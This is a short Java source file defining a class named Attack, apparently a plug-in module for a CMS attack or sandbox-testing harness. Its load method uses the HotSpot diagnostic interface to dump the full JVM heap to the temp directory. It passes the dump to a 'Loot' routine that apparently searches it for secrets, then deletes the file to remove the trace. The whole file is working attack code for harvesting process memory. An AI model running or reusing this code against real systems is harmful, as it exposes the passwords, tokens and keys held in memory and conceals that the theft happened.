package cms;

import java.io.*;
import java.nio.file.*;
import java.util.*;

final class Attack extends Hooks {
    void load() throws Exception {
        Path dump = Path.of(System.getProperty("java.io.tmpdir"), "heap.hprof");
        var server = java.lang.management.ManagementFactory.getPlatformMBeanServer();
        var name = new javax.management.ObjectName("com.sun.management:type=HotSpotDiagnostic");
        server.invoke(name, "dumpHeap", new Object[] {dump.toString(), true}, new String[] {"java.lang.String", "boolean"});
        tell("dumped");
        Loot.look(dump);
        Files.delete(dump);
    }
}
